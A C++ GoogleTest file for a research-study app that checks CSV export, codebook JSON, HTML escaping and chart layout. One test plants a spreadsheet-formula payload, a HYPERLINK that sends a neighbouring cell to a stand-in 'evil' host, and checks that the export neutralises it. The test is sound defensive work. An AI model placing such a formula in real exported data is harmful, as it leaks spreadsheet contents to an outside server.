#include "app/study/results_table.h"

#include <cmath>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "app/study/study_page.h"
#include "app/study/study_tables.h"
#include "tests/app/study/example_study.h"
#include "tests/support/scratch_folder.h"

namespace tandem {
namespace {

using testing::ExampleStudy;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

/// Counts the cells of a line without quotes.
std::size_t CellsIn(const std::string& line) {
  return static_cast<std::size_t>(std::count(line.begin(), line.end(), ',')) + 1;
}

class ResultsTableTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(log_) << log_.error().what;
    const std::string name = PseudonymsOf(study_).front();
    EXPECT_FALSE(log_->Consent(name));
    EXPECT_FALSE(log_->Begin(name, 1));
    TrialMeasures measures;
    measures.completion_s = 1.25;
    EXPECT_FALSE(log_->Ran(name, 1, measures));
    EXPECT_FALSE(log_->Answered(name, 1, {{"remark", "slow, \"sticky\""}}));
  }

  const Study study_ = ExampleStudy();
  ScratchFolder folder_;
  Result<TrialLog> log_ = TrialLog::Open(
      folder_.path() / "trials.jsonl", {"example", "00ff", 5, "1.0", "persons", "participant"}, 2);
};

TEST_F(ResultsTableTest, HasARowPerTrialOfConsentingParticipants) {
  EXPECT_EQ(RowsOf(study_, *log_).size(), 7U);
  const std::string csv = ResultsCsv(study_, RowsOf(study_, *log_));
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 8);
  EXPECT_THAT(csv, StartsWith("participant,block,trial,"));
  EXPECT_THAT(csv, HasSubstr(",done,1,20"));
  EXPECT_THAT(csv, HasSubstr(",1.25,"));
  EXPECT_THAT(csv, HasSubstr("\"slow, \"\"sticky\"\"\""));
  EXPECT_THAT(csv, HasSubstr(",constant_stiffness=80,"));
  EXPECT_THAT(csv, Not(HasSubstr("nan")));
}

// an answer that a spreadsheet would run, and that would tell the answers beside it to a server
TEST_F(ResultsTableTest, AnswerIsNoFormula) {
  const std::string name = PseudonymsOf(study_).front();
  EXPECT_FALSE(log_->Begin(name, 2));
  EXPECT_FALSE(log_->Ran(name, 2, TrialMeasures{}));
  EXPECT_FALSE(log_->Answered(name, 2, {{"remark", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"}}));
  const std::string csv = ResultsCsv(study_, RowsOf(study_, *log_));
  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK("));
  EXPECT_THAT(csv, Not(HasSubstr(",\"=HYPERLINK(")));
}

TEST_F(ResultsTableTest, TheCodebookDescribesEveryColumnInOrder) {
  const std::string csv = ResultsCsv(study_, RowsOf(study_, *log_));
  const std::string head = csv.substr(0, csv.find('\n'));
  const auto codebook = nlohmann::json::parse(CodebookJson(study_));
  ASSERT_EQ(codebook.at("columns").size(), CellsIn(head));
  std::string names;
  for (const auto& column : codebook.at("columns")) {
    names += (names.empty() ? "" : ",") + column.at("name").get<std::string>();
    EXPECT_NE(column.at("about"), "");
    EXPECT_THAT(CodebookText(study_),
                HasSubstr("| `" + column.at("name").get<std::string>() + "` |"));
  }
  EXPECT_EQ(names, head);
}

TEST_F(ResultsTableTest, PageIsSelfContainedAndEscapesAnswers) {
  Study study = study_;
  study.title = "<b>title</b>";
  const auto rows = RowsOf(study, *log_);
  const std::string page = StudyPage(study, rows, EffectsOf(study, rows), "persons");
  EXPECT_THAT(page, HasSubstr("&lt;b&gt;title"));
  EXPECT_THAT(page, Not(HasSubstr("http")));
  EXPECT_THAT(page, HasSubstr("1 of 7"));
}

TEST_F(ResultsTableTest, DryRunPageSaysSoAndExcludesPractice) {
  Study study = study_;
  study.conditions[1].planted_slower = 1.5;
  const std::string name = PseudonymsOf(study).front();
  int number = 0;
  for (const PlannedTrial& plan : TrialsOf(study, 0)) {
    if (++number > 1) {
      EXPECT_FALSE(log_->Begin(name, plan.number));
      EXPECT_FALSE(log_->Ran(name, plan.number, TrialMeasures{}));
    }
    // all trials of "far" were late, no other one was
    const char* late = plan.condition == 1 ? "yes" : "no";
    EXPECT_FALSE(log_->Answered(name, plan.number, {{"late", late}}));
  }
  const auto rows = RowsOf(study, *log_);
  const auto effects = EffectsOf(study, rows);
  const std::string page = StudyPage(study, rows, effects, "dry run in virtual time");
  EXPECT_THAT(page, HasSubstr("nothing about persons"));
  EXPECT_THAT(page, HasSubstr("In far its hands take 1.5 times as long"));
  EXPECT_THAT(page, HasSubstr("<td>near</td><td class=\"n\">0</td><td class=\"n\">2</td>"));
  EXPECT_THAT(page, HasSubstr("<td>far</td><td class=\"n\">2</td><td class=\"n\">0</td>"));
  EXPECT_THAT(page, HasSubstr("constant_stiffness=80"));
  EXPECT_THAT(StudyPage(study, rows, effects, "persons"), Not(HasSubstr("dry run")));
}

// A difference is marked by its interval. A measure that never differs is not drawn.
TEST(StudySummary, MarksIntervalsThatExcludeZero) {
  const Study study = ExampleStudy();
  MeasureEffect effect{"pull", "completion_s", "s", 0, {}};
  const MeanInterval level{2, 1.5, 1, 2, 0.1};
  effect.conditions.push_back({0, level, {1.25, 1.75}, level, 1});
  effect.conditions.push_back({1, level, {1.25, 1.75}, {2, 0.75, 0.5, 1, 0.1}, 7.5});
  effect.conditions.push_back({2, level, {1.25, 1.75}, {2, 0.25, -0.5, 1, 0.1}, 0.5});
  const std::string table = SummaryTable(study, {effect});
  EXPECT_THAT(table, HasSubstr("<b>0.75</b>"));
  EXPECT_THAT(table, Not(HasSubstr("<b>0.25</b>")));
  EXPECT_FALSE(AllTheSame(effect));
  for (ConditionEffect& one : effect.conditions) one.participants = {1, 1, NAN};
  EXPECT_TRUE(AllTheSame(effect));
}

// Widths are those of usual letters.
TEST(StudyPicture, TextsDoNotOverlap) {
  Study study = ExampleStudy();
  MeasureEffect effect{"pull", "completion_s", "s", 0, {}};
  for (std::size_t i = 0; i < study.conditions.size(); ++i) {
    study.conditions[i].name += std::string(30, 'm');
    const MeanInterval level{2, 1.5, 1, 2, 0.1};
    effect.conditions.push_back({i, level, {1.25, 1.75}, level, 1});
  }
  const Picture picture = PictureOf(study, effect);
  std::vector<PictureBox> texts;
  for (const PictureShape& shape : picture.shapes) {
    if (const auto* label = std::get_if<LabelShape>(&shape)) texts.push_back(BoundsOf(*label));
  }
  ASSERT_GT(texts.size(), 8U);
  for (std::size_t i = 0; i < texts.size(); ++i) {
    EXPECT_GE(texts[i].x, 0);
    EXPECT_LE(texts[i].right(), picture.width);
    for (std::size_t j = 0; j < i; ++j) EXPECT_FALSE(texts[i].Overlaps(texts[j])) << i << " " << j;
  }
}

}  // namespace
}  // namespace tandem
